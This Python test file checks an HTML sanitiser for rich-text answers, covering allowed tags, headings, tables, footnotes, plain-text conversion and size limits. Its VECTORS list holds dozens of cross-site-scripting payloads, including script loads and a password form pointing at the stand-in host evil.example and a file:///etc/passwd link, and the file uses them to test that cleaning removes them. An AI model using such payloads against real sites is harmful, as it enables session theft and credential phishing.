import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from documents.richtext import plain
from documents.richtext.cleaning import (
    MOST_ELEMENTS,
    PictureInText,
    TooMuchText,
    clean,
    clean_to_save,
)
from documents.richtext.plain import from_plain, to_plain

# The tags allowed in a cleaned text, listed here again: the test does not rely on
# the code under test.
ALLOWED = re.compile(
    r"""</?(?:p|h[34]|strong|em|su[bp]|foot-note|ul|li|table|thead|tbody|tr)>
    | <br>
    | <ol(?:\ start="\d{1,4}")?(?:\ type="[aAiI]")?> | </ol>
    | <a\ href="(?:https?://|mailto:|tel:)[^"<>\s]+"> | </a>
    | <t[dh](?:\ colspan="\d{1,2}")?(?:\ rowspan="\d{1,3}")?
      (?:\ align="(?:left|right)")?(?:\ scope="(?:col|row)")?> | </t[dh]>""",
    re.VERBOSE | re.IGNORECASE,
)


def assert_harmless(html: str) -> None:
    left = ALLOWED.sub("", html)
    assert "<" not in left, left
    assert html == clean(html), "cleaning twice changes something"


VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<body onload=alert(1)>x",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=//evil.example/x.swf>",
    '<link rel=stylesheet href="file:///etc/passwd">',
    "<style>@import '//evil.example/x.css';p{color:red}</style>",
    '<p style="background:url(//evil.example)">x</p>',
    '<p style="font-size:9999999pt">x</p>',
    '<p class="govuk-x" id="main-content" title="t" lang="xx" dir="rtl">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" jav&#x09;ascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="/admin/">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="https://ok.example" onclick="alert(1)" target=_blank>x</a>',
    '<a href="https://ok.example/&quot;onmouseover=&quot;alert(1)">x</a>',
    "<form action=//evil.example><input name=password><button>Go</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<?xml-stylesheet href='x'?><p>x</p>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<textarea><script>alert(1)</script></textarea>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<table background=javascript:alert(1)><tr><td background=x>y</td></tr></table>",
    "<td colspan=1000000 rowspan=65534 headers=x onclick=x>loose cell</td>",
    "<ol start=99999999999999999999 type=square><li value=9>x</li></ol>",
    "<p>a\x00b\x08c\ud800</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<video><source onerror=alert(1)></video><audio src=x></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<x/onpointerenter=alert(1)>x",
]


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_harmful_survives_cleaning(vector):
    for html in (vector, f"<p>{vector}</p>", f"<table><tr><td>{vector}"):
        assert_harmless(clean(html))


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        pytest.param("<p>One</p><p>Two</p>", "<p>One</p><p>Two</p>", id="paragraphs"),
        pytest.param(
            "<p>a <b>b</b> <i>i</i></p>",
            "<p>a <strong>b</strong> <em>i</em></p>",
            id="old names of bold and italic become the ones we keep",
        ),
        pytest.param(
            "<ul><li><p>one</p></li>"
            "<li><p>two</p><ul><li><p>deep</p></li></ul></li></ul>",
            "<ul><li>one</li><li>two<ul><li>deep</li></ul></li></ul>",
            id="a list item with one paragraph holds its words bare",
        ),
        pytest.param(
            '<ol start="3" type="a"><li>x</li></ol>',
            '<ol start="3" type="a"><li>x</li></ol>',
            id="a numbered list keeps its first number and kind",
        ),
        pytest.param(
            "<table><tbody><tr><th>Year</th><th>Count</th></tr>"
            "<tr><th>2025</th><td>4</td></tr></tbody></table>",
            '<table><thead><tr><th scope="col">Year</th><th scope="col">Count</th></tr>'
            '</thead><tbody><tr><th scope="row">2025</th><td>4</td></tr></tbody>'
            "</table>",
            id="header cells say what they head",
        ),
        pytest.param(
            "<section>Costs</section>None.<div>Nor later.</div>",
            "<p>Costs</p><p>None.</p><p>Nor later.</p>",
            id="other blocks become paragraphs, and bare text is put in one",
        ),
        pytest.param(
            "<h1>Costs</h1><h2><strong>Of</strong> paper</h2><h1>Staff</h1>",
            "<h3>Costs</h3><h4>Of paper</h4><h3>Staff</h3>",
            id="headings have two levels, and are bold as a whole",
        ),
        pytest.param(
            "<h4>Staff</h4><h3>Costs</h3><h4>Of paper</h4>",
            "<h3>Staff</h3><h3>Costs</h3><h4>Of paper</h4>",
            id="no level of headings is skipped",
        ),
        pytest.param(
            "<ul><li><h3>Oak</h3></li></ul><table><tr><td><h2>Elm</h2>12</td></tr></table>",
            "<ul><li><strong>Oak</strong></li></ul><table><tbody><tr>"
            "<td><p><strong>Elm</strong></p><p>12</p></td></tr></tbody></table>",
            id="a heading in an item or a cell is bold",
        ),
        pytest.param(
            "<p>12<foot-note>By <em>May</em> <a href='https://example.org/'>here</a>."
            "</foot-note> owls</p>",
            "<p>12<foot-note>By <em>May</em> "
            '<a href="https://example.org/">here</a>.</foot-note> owls</p>',
            id="a footnote stays in its line",
        ),
        pytest.param(
            "<p><strong>12<foot-note>By May <foot-note>or June</foot-note></foot-note>"
            ' owls</strong><foot-note> </foot-note><a href="https://example.org/">a'
            "<foot-note>b</foot-note></a></p>",
            "<p><strong>12</strong><foot-note>By May or June</foot-note>"
            '<strong> owls</strong><a href="https://example.org/">a</a>'
            "<foot-note>b</foot-note></p>",
            id="a footnote is no part of a link, of bold words or of another",
        ),
        pytest.param(
            '<table><tr><td align="right">4</td><td align="left">5</td>'
            '<td align="center">6</td></tr></table>',
            '<table><tbody><tr><td align="right">4</td><td align="left">5</td>'
            "<td>6</td></tr></tbody></table>",
            id="a cell stands at the right or at the left",
        ),
        pytest.param(
            "<p></p><p><br></p><p>  x \n y  </p><p><strong> </strong></p>",
            "<p>x y</p>",
            id="empty paragraphs and elements go, blanks are folded",
        ),
        pytest.param(
            '<p><a href="https://example.org/a?b=1&amp;c=2">here</a></p>',
            '<p><a href="https://example.org/a?b=1&amp;c=2">here</a></p>',
            id="links to the web stay",
        ),
        pytest.param("", "", id="nothing stays nothing"),
        pytest.param("<p></p>", "", id="an empty editor is nothing"),
    ],
)
def test_what_an_answer_may_contain_is_kept(html, kept):
    assert clean(html) == kept
    assert_harmless(kept)


def test_cells_are_not_made_wider_than_a_page_can_carry():
    html = clean("<table><tr><td colspan=1000000 rowspan=9999>x</td></tr>")

    assert '<td colspan="20" rowspan="100">x</td>' in html


def test_words_nested_too_deep_are_kept_without_their_markup():
    html = clean("<ul><li>x" * 300 + "word" + "</li></ul>" * 300)

    depth = most = 0
    for tag in re.findall(r"</?\w+", html):
        depth += -1 if tag.startswith("</") else 1
        most = max(most, depth)
    assert "word" in html
    assert 10 < most <= 30


@pytest.mark.parametrize(
    "html",
    [
        pytest.param("<div>" * 100_000 + "word", id="nested without end"),
        pytest.param("<p>word</p>" * 20_000, id="paragraphs without end"),
        pytest.param("<ul><li>" * 7_000 + "word", id="nested up to the limit"),
        pytest.param("word " * 400_000, id="two million characters"),
        pytest.param("<" * 400_000 + "word", id="angles alone"),
    ],
)
def test_an_endless_text_is_refused_when_saved_and_shown_as_words(html):
    shown = clean(html)

    assert len(re.findall(r"<\w", shown)) <= MOST_ELEMENTS
    assert_harmless(shown)
    if html.startswith(("<p>", "word")):
        with pytest.raises(TooMuchText, match="a letter can carry"):
            clean_to_save(html)


# --- Plain text ---------------------------------------------------------------------


def test_typed_text_becomes_paragraphs_and_lists():
    html = from_plain(
        "We hold this.\nIn two places:\n- Derby <site>\n- Leeds\n\n\nThat is all.\n"
    )

    assert html == (
        "<p>We hold this.<br>In two places:</p>"
        "<ul><li>Derby &lt;site&gt;</li><li>Leeds</li></ul><p>That is all.</p>"
    )


def test_a_text_reads_as_lines():
    html = (
        "<p>See <a href='https://example.org/x'>our page</a>:</p>"
        "<ol start=2><li>one<ul><li>under</li></ul></li><li>two</li></ol>"
        "<table><tr><th>Year<th>Count</tr><tr><td>2025<td>4</tr></table>"
    )

    assert to_plain(html) == (
        "See our page (https://example.org/x):\n\n"
        "2. one\n  - under\n3. two\n\n"
        "Year | Count\n2025 | 4"
    )


@pytest.mark.parametrize(
    ("html", "is_plain"),
    [
        ("<p>One<br>line</p><ul><li>a</li></ul>", True),
        ("", True),
        ("<p><strong>bold</strong></p>", False),
        ("<table><tr><td>x</td></tr></table>", False),
        ("<ol><li>x</li></ol>", False),
    ],
)
def test_it_is_known_whether_a_plain_box_would_lose_formatting(html, is_plain):
    assert plain.is_plain(html) is is_plain


# --- Any input ----------------------------------------------------------------------

TAGS = [
    *("p", "div", "b", "strong", "em", "a", "ul", "ol", "li", "table", "thead", "tr"),
    *("th", "td", "br", "h2", "script", "caption", "x"),
]
tag = st.sampled_from(TAGS)
token = st.one_of(
    st.text(alphabet="ab \n\t<>&\"'-\xa0\x0c1.", max_size=6),
    tag.map("<{}>".format),
    tag.map("</{}>".format),
    st.just('<a href="https://example.org">'),
    st.just('<td colspan="40" style="x">'),
    st.just('<ol start="4" type="i">'),
    st.sampled_from(["&amp;", "&nbsp;", "&lt;b&gt;", "&#0;", "&#xD800;"]),
)
soup = st.lists(token, max_size=30).map("".join)


@given(soup)
def test_cleaning_any_soup_leaves_what_is_allowed_and_changes_it_no_more(html):
    assert_harmless(clean(html))


# Without the signs of no meaning for cleaning: hiding, turning and striking signs, and
# bullets.
typed = st.text(
    st.characters(
        exclude_categories=["Cf", "Cs"],
        exclude_characters="\u0335\u0336\ufffc\uf0a7\uf0b7\uf0d8\uf0fc",
    ),
    max_size=200,
)


@given(typed)
def test_no_typed_word_is_lost(text):
    words = re.sub(r"[\x00-\x1f\x7f\ud800-\udfff]", " ", text).split()

    html = clean(from_plain(text))

    kept = to_plain(html)
    for word in words:
        if word not in {"-", "*", "•", "–"}:
            assert word.lstrip("-*•–") in kept
    assert_harmless(html)


@pytest.mark.parametrize(
    "picture",
    [
        '<img src="data:image/png;base64,AAAA" alt="Map">',
        '<IMG src="https://a.example/map.png">',
        "<picture><source srcset=x></picture>",
        "<svg><circle r=4 /></svg>",
    ],
)
def test_a_picture_is_refused_and_not_silently_lost(picture):
    with pytest.raises(PictureInText, match="enclose it as a file"):
        clean_to_save(f"<p>Text {picture}</p>")


def test_words_about_a_picture_are_kept():
    assert clean_to_save("<p>Use &lt;img&gt; here.</p>")


@pytest.mark.parametrize(
    ("pasted", "kept"),
    [
        ("<p>No \u202e321\u202c.</p>", "<p>No 123.</p>"),
        ("<p>No &#8238;321&#8236;.</p>", "<p>No 123.</p>"),
        ("<p>So\U000e0061\U000e0062.</p>", "<p>So.</p>"),
        (
            "<p>\U0001f3f4\U000e0067\U000e0062\U000e007f</p>",
            "<p>\U0001f3f4\U000e0067\U000e0062\U000e007f</p>",
        ),
    ],
)
def test_signs_that_turn_or_hide_letters_are_read_as_shown(pasted, kept):
    assert clean(pasted) == kept


def test_a_note_follows_its_words_in_plain_text():
    html = "<h3>Owls</h3><p>There were 9<foot-note>In<br>May.</foot-note>.</p>"

    assert to_plain(html) == "Owls\n\nThere were 9 (note: In May.)."
